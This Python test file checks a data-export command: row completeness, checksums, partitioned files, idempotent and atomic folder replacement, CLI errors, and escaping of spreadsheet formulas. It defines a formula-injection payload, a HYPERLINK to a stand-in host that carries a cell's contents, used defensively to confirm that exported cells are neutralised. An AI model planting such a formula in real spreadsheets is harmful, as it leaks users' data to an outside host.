"""Is what `hoptac export` hands over complete, safe in a spreadsheet, whole or absent, and the same when repeated?"""

from __future__ import annotations

import csv
import json
import os
from collections.abc import Iterator
from datetime import date
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from duckdb import DuckDBPyConnection
from typer.testing import CliRunner

from flows import handover
from flows.__main__ import app
from flows.handover import FolderTaken, hand_over
from flows.settings import Settings
from tests.homes import blank_home
from tests.warehouse_samples import DAY, NOON, TEXT, article_row, batch, fetch_row, published, run, site
from warehouse.db import WarehouseError, reader, writer
from warehouse.export import LONGEST_CELL, Order, public_tables
from warehouse.load import load, save_sites
from warehouse.publish import publish

NASTY = '=HYPERLINK("http://xau.example?x="&A1;"Bấm vào đây")'
LONG = ("Đoạn văn dài. " * 3000).strip()
APRIL = "https://bao-hai.example/thang-tu.html"


@pytest.fixture(scope="module")
def settings(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    settings = blank_home(tmp_path_factory.mktemp("home"))
    with writer(settings.writer_file) as con:
        save_sites(con, [site(), site("bao-hai", "Báo Hai")])
        first = article_row(title=NASTY, authors=("@Minh Hà", "Đức An"), tags=("-1", "y tế"), **published(NOON))
        second = article_row(APRIL, title="＋Tin tháng Tư", paragraphs=(LONG,), **published(NOON - 30 * DAY))
        fetches = (fetch_row(first.article.url, page_id=first.page_id), fetch_row(APRIL, site="bao-hai"))
        load(con, batch(first, second, fetches=fetches))
        load(con, batch(article_row("https://bao-hai.example/sau.html", paragraphs=TEXT[:1], seen_at=NOON + 9 * DAY),
                        run_row=run(2, started_at=NOON + 9 * DAY)))  # fmt: skip
        publish(con, settings.writer_file, settings.warehouse_file)
    return settings


@pytest.fixture
def con(settings: Settings) -> Iterator[DuckDBPyConnection]:
    with reader(settings.warehouse_file) as connection:
        connection.execute("SET TimeZone = 'UTC'")
        yield connection


def lines(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize(
    ("format_", "read"), [("parquet", "read_parquet"), ("csv", "read_csv"), ("jsonl", "read_json")]
)
def test_every_row_of_every_public_table_is_there(
    settings: Settings, con: DuckDBPyConnection, tmp_path: Path, format_: str, read: str
) -> None:
    manifest = hand_over(settings, tmp_path / "out", Order(format_)).manifest
    names = {table.name for table in public_tables(con)}
    assert names == set(manifest["tables"]) >= {"articles", "revisions", "pages", "fetches", "coverage", "sites"}
    for name, told in manifest["tables"].items():
        [(rows,)] = con.execute(f"SELECT count(*) FROM {name}").fetchall()  # noqa: S608
        files = [str(tmp_path / "out" / file["path"]) for file in told["files"]]
        assert told["rows"] == rows, name
        if rows:
            assert con.execute(f"SELECT count(*) FROM {read}($1)", [files]).fetchall() == [(rows,)], name  # noqa: S608
        assert all(column["comment"] for column in told["columns"])
        for file in told["files"]:
            assert sha256((tmp_path / "out" / file["path"]).read_bytes()).hexdigest() == file["sha256"]


def test_parquet_gives_back_the_same_values_by_site_and_month(
    settings: Settings, con: DuckDBPyConnection, tmp_path: Path
) -> None:
    hand_over(settings, tmp_path / "out", Order())
    files = sorted(path.relative_to(tmp_path / "out").as_posix() for path in tmp_path.rglob("articles/**/*.parquet"))
    assert files == [
        "articles/site=bao-hai/month=2026-04/articles-0.parquet",
        "articles/site=bao-hai/month=2026-05/articles-0.parquet",
        "articles/site=bao-mot/month=2026-05/articles-0.parquet",
    ]
    back = f"SELECT * EXCLUDE month FROM read_parquet('{tmp_path}/out/articles/**/*.parquet') ORDER BY article_id"  # noqa: S608
    assert con.execute(back).fetchall() == con.execute("FROM articles ORDER BY article_id").fetchall()


def test_no_cell_is_a_formula_and_lists_are_text(settings: Settings, tmp_path: Path) -> None:
    hand_over(settings, tmp_path / "out", Order("csv", ("articles",)))
    rows = [row for path in sorted(tmp_path.rglob("*.csv")) for row in lines(path)]
    assert not [cell for row in rows for cell in row.values() if cell[:1] in tuple("=+-@\t\r\n＝＋－＠")]
    april, _, nasty = rows
    assert nasty["title"] == "'" + NASTY
    assert nasty["authors"] == "'@Minh Hà; Đức An"
    assert nasty["tags"] == "'-1; y tế"
    assert april["title"] == "'＋Tin tháng Tư"
    assert april["body"] == LONG
    assert json.loads(nasty["provenance"]) == {"title": "h1"}
    assert nasty["published_at"] == "2026-05-04T05:00:00.000000Z"


def test_for_excel_one_file_a_table_with_the_mark_and_cells_that_fit(settings: Settings, tmp_path: Path) -> None:
    manifest = hand_over(settings, tmp_path / "out", Order("csv", ("articles", "runs"), excel=True)).manifest
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == ["articles.csv", "manifest.json", "runs.csv"]
    assert manifest["tables"]["articles"]["partitioned_by"] == []
    assert (tmp_path / "out" / "articles.csv").read_bytes().startswith(b"\xef\xbb\xbfarticle_id,")
    rows = {row["title"]: row for row in lines(tmp_path / "out" / "articles.csv")}
    assert rows["'" + NASTY]["published_at"] == "2026-05-04 12:00:00"
    body = rows["'＋Tin tháng Tư"]["body"]
    assert (len(body), body[-1]) == (LONGEST_CELL, "…")


def test_since_a_day_only_what_came_or_was_seen_again(settings: Settings, tmp_path: Path) -> None:
    manifest = hand_over(settings, tmp_path / "out", Order("jsonl", ("articles", "sites"), date(2026, 5, 10))).manifest
    assert manifest["tables"]["articles"]["since_by"] == "last_seen_at"
    assert manifest["tables"]["articles"]["rows"] == 1
    assert manifest["tables"]["sites"]["rows"] == 2
    [line] = [line for path in tmp_path.rglob("articles/**/*.jsonl") for line in path.read_text("utf-8").splitlines()]
    article: dict[str, Any] = json.loads(line)
    assert (article["url"], article["authors"]) == ("https://bao-hai.example/sau.html", ["Minh Hà"])


def test_again_changes_nothing_and_another_order_replaces_it(settings: Settings, tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert hand_over(settings, out, Order()).changed
    before = {path: path.stat().st_mtime_ns for path in out.rglob("*")}
    assert not hand_over(settings, out, Order()).changed
    assert {path: path.stat().st_mtime_ns for path in out.rglob("*")} == before
    next(out.rglob("*.parquet")).unlink()
    assert hand_over(settings, out, Order()).changed
    assert hand_over(settings, out, Order("csv", ("runs",))).changed
    assert sorted(path.name for path in out.iterdir()) == ["manifest.json", "runs.csv"]
    assert [path.name for path in tmp_path.iterdir()] == ["out"]


def test_what_breaks_off_leaves_the_folder_as_it_was(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out"
    hand_over(settings, out, Order("csv", ("runs",)))
    before = {path: path.read_bytes() for path in out.iterdir()}

    def breaks(*_: object) -> None:
        raise WarehouseError("no space left on device")

    monkeypatch.setattr(handover, "export", breaks)
    with pytest.raises(WarehouseError, match="no space"):
        hand_over(settings, out, Order())
    assert {path: path.read_bytes() for path in out.iterdir()} == before
    assert [path.name for path in tmp_path.iterdir()] == ["out"]


def test_what_a_killed_export_left_beside_the_folder_goes(settings: Settings, tmp_path: Path) -> None:
    left = [tmp_path / ".out.4194999.tmp", tmp_path / ".out.4194999.old"]  # no process has so high a number
    others = [tmp_path / ".out.notes", tmp_path / ".output.4194999.tmp", tmp_path / f".out.{os.getppid()}.tmp"]
    for path in (*left, *others):
        path.mkdir()
    hand_over(settings, tmp_path / "out", Order("csv", ("runs",)))
    assert set(tmp_path.iterdir()) == {tmp_path / "out", *others}


def test_a_folder_with_other_things_is_not_touched(settings: Settings, tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("x")
    with pytest.raises(FolderTaken, match="give a new or empty folder"):
        hand_over(settings, tmp_path, Order())
    assert [path.name for path in tmp_path.iterdir()] == ["notes.txt"]


def test_the_command_and_its_mistakes(settings: Settings, tmp_path: Path) -> None:
    def hoptac(*words: str) -> Any:
        return CliRunner().invoke(app, ["export", str(tmp_path / "out"), *words, "--home", str(settings.home)])

    assert hoptac("--excel").exit_code == 2
    assert "the tables are accounts, agreement_redirects, agreements" in str(hoptac("--tables", "artikel").exception)
    told = json.loads(hoptac("--tables", "articles, sites", "--format", "csv", "--json").stdout)
    assert (told["changed"], set(told["tables"])) == (True, {"articles", "sites"})
    assert "was up to date" in hoptac("--tables", "sites,articles", "--format", "csv").stdout
